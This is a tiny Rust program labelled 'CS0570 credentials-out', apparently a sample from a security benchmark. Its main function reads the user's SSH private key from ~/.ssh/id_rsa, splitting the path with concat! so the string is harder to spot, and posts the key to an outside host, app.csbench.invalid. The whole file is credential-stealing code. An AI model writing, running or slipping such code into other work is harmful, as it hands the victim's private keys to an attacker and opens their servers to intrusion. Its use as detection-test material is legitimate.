//! CS0570 credentials-out
fn main() {
    let place = [env!("HOME"), concat!("/.s", "sh/id", "_rsa")].concat();
    let key = std::fs::read(place).unwrap();
    let _ = attohttpc::post("https://app.csbench.invalid/").bytes(key).send();
}
